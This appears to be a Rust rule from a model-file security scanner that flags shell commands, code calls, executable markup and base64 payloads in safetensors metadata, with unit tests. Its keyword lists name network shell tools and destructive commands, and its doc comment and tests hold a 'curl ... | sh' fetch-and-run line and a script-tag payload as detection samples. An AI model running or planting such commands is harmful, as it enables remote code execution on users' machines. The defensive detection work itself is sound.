use headworks_types::{Confidence, FactKind, Severity, fact::TensorFact};

use crate::Evidence;
use crate::rule::{Judgement, rule};

rule! {
    /// Looks at the text that tensor files carry beside the weights for what has no business there: shell
    /// commands, calls of Python that run code, markup that runs in a browser, encoded payloads. Other URLs
    /// than those under keys made for them are noted.
    ///
    /// **Why it matters.** Metadata is shown on model pages and in tools, printed to terminals, fed to agents,
    /// and now and then evaluated. A command in it waits for someone to run it; markup runs where a page does
    /// not escape it; an encoded program is the second half of an attack.
    ///
    /// **Example.** A safetensors file whose `__metadata__` has `"install": "curl -s http://192.0.2.1/x | sh"`.
    ///
    /// **What it misses.** Instructions in plain prose, and payloads encoded otherwise than in base64.
    SUSPICIOUS_METADATA {
        id: "suspicious-metadata",
        title: "Metadata holds a command, markup or an encoded payload",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        controls: &["HW-SER-04"],
        references: &["AML.T0011", "AML.T0068", "CWE-506"],
        hint: "read the value; metadata is never needed to load the weights, so the file can be written without it",
        check,
    }
}

/// Text in ASCII lower case that is part of a command line.
const COMMANDS: &[&str] = &[
    "/dev/tcp/",
    "powershell",
    "cmd.exe",
    "cmd /c",
    "bash -c",
    "sh -c",
    "/bin/sh",
    "/bin/bash",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| python",
    "|python",
    "rm -rf",
    "mshta ",
    "certutil ",
    "curl http",
    "curl -",
    "wget http",
    "wget -",
];

/// Text that is part of a program in Python or PHP.
const CODE: &[&str] = &["os.system", "os.popen", "subprocess.", "__import__", "pickle.loads", "<?php"];

/// Calls that are code unless they are a method's: `model.eval()` is everyday advice.
const CALLS: &[&str] = &["eval(", "exec("];

/// Markup that runs or fetches.
const MARKUP: &[&str] = &["<script", "<iframe", "<object", "<embed", "javascript:", "onerror=", "onload="];

/// Parts of keys that are made for a URL, or for prose that may hold one.
const URL_KEYS: &[&str] = &[
    "url",
    "link",
    "source",
    "repo",
    "doi",
    "description",
    "license",
    "author",
    "homepage",
    "readme",
    "modelspec",
    "dataset",
];

fn check(evidence: &Evidence<'_>) -> Vec<Judgement> {
    let suspicious = evidence.facts.iter().filter_map(|fact| match &fact.kind {
        FactKind::Tensor(TensorFact::Metadata { key, value }) => {
            let (what, severity) = suspicion(key, value)?;
            let message = format!("the metadata `{key}` holds {what}");
            Some(Judgement::of(fact, key, message).with_evidence(value).with_severity(severity))
        }
        _ => None,
    });
    suspicious.collect()
}

/// What is wrong with a value, and how bad it is.
fn suspicion(key: &str, value: &str) -> Option<(&'static str, Severity)> {
    let lower = value.to_ascii_lowercase();
    let holds = |marks: &[&str]| marks.iter().any(|mark| lower.contains(mark));
    if holds(COMMANDS) {
        return Some(("a shell command", Severity::Medium));
    }
    if holds(CODE) || CALLS.iter().any(|call| is_called(&lower, call)) {
        return Some(("code", Severity::Medium));
    }
    if holds(MARKUP) {
        return Some(("markup that runs in a browser", Severity::Medium));
    }
    // The parser decodes what looks like base64 and says so behind it.
    if lower.contains(" (base64") {
        return Some(("an encoded payload", Severity::Medium));
    }
    let key = key.to_ascii_lowercase();
    let is_usual = URL_KEYS.iter().any(|part| key.contains(part));
    (lower.contains("://") && !is_usual).then_some(("a URL", Severity::Info))
}

/// Whether `call` occurs as a function of its own and not as the end of another name.
fn is_called(text: &str, call: &str) -> bool {
    text.match_indices(call).any(|(at, _)| {
        let before = text.get(..at).and_then(|before| before.chars().next_back());
        !before.is_some_and(|character| character.is_alphanumeric() || matches!(character, '.' | '_'))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn severity(key: &str, value: &str) -> Option<Severity> {
        suspicion(key, value).map(|(_, severity)| severity)
    }

    #[test]
    fn commands_code_markup_and_payloads_are_reported_under_any_key() {
        for value in [
            "curl -s http://192.0.2.1/x.sh | sh",
            "import os; os.system('echo headworks-marker')",
            "eval(open('x').read())",
            "<script src=//x.invalid></script>",
            "aW1wb3J0… (base64 of an ELF program)",
        ] {
            assert_eq!(severity("general.description", value), Some(Severity::Medium), "{value}");
        }
    }

    #[test]
    fn a_url_is_noted_unless_its_key_is_made_for_one() {
        assert_eq!(severity("note", "see https://models.invalid/toy"), Some(Severity::Info));
        assert_eq!(severity("general.source.url", "https://models.invalid/toy"), None);
        assert_eq!(severity("modelspec.description", "see https://models.invalid/toy"), None);
    }

    /// Model descriptions tell people to switch to evaluation, and that is a method's name.
    #[test]
    fn advice_to_call_model_eval_is_no_code() {
        assert_eq!(severity("usage", "call model.eval() before you use it"), None);
        assert_eq!(severity("license", "apache-2.0"), None);
    }
}
